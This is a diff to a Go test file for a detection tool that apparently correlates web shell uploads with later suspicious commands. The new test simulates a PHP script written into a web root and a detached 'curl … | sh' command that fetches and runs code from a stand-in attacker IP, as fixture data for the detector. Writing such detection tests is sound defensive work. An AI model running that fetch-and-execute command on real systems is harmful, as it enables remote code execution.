@@ -4,6 +4,7 @@ import (
 	"testing"
 
 	"github.com/auditchain/auditchain/detect"
+	"github.com/auditchain/auditchain/parser"
 )
 
 // TestLinkDetached: a web shell detaches a polling loop with `setsid … &`;
@@ -81,6 +82,45 @@ func TestRootGapNeedsTellingCwds(t *testing.T) {
 			if got := chainOf(r, fa) == chainOf(r, fb); got != c.joined {
 				dumpChains(t, r)
 				t.Fatalf("joined %v, want %v", got, c.joined)
+			}
+		})
+	}
+}
+
+// TestLinkAmbiguousToWritten: a high command whose request is ambiguous
+// joins the writer of the one script among the candidates that the log
+// shows written; not when its command is not high, nor when two
+// candidates are such scripts.
+func TestLinkAmbiguousToWritten(t *testing.T) {
+	for _, c := range []struct {
+		name   string
+		sev    detect.Severity
+		other  string // the second request in flight
+		joined bool
+	}{
+		{"one written script among the candidates", detect.SeverityHigh, "/index.php", true},
+		{"the command is not high", detect.SeverityMedium, "/index.php", false},
+		{"two written scripts", detect.SeverityHigh, "/uploads/b.php", false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			s := newSim(t, Options{})
+			s.webServer()
+			a := shellOf(300, worker1, "/var/www/html/uploads")
+			cp := s.find(s.write(5, child(301, a), parser.KindFileWrite, "/var/www/html/css/print.php"),
+				detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root")
+			s.write(5.5, child(302, a), parser.KindFileWrite, "/var/www/html/uploads/b.php")
+			s.http(20, "GET", "/css/print.php", 200, "203.0.113.7", "curl/8")
+			s.http(20, "GET", c.other, 200, "198.51.100.20", "Mozilla/5.0")
+			r := shellOf(400, worker2, "/var/www/html")
+			cmd := s.find(s.exec(19.6, r, "sh", "-c", "setsid sh -c 'curl -fsS http://203.0.113.7/t | sh' &"),
+				detect.StageSuspiciousSpawn, c.sev, "Web Server Exploitation")
+			res := s.build()
+			if got := chainOf(res, cmd) == chainOf(res, cp); got != c.joined {
+				dumpChains(t, res)
+				t.Fatalf("joined %v, want %v", got, c.joined)
+			}
+			if c.joined && !hasLink(chainOf(res, cmd), "file (inferred): ", "the likeliest cause, not an observed one") {
+				t.Errorf("links %q", chainOf(res, cmd).Links)
 			}
 		})
 	}
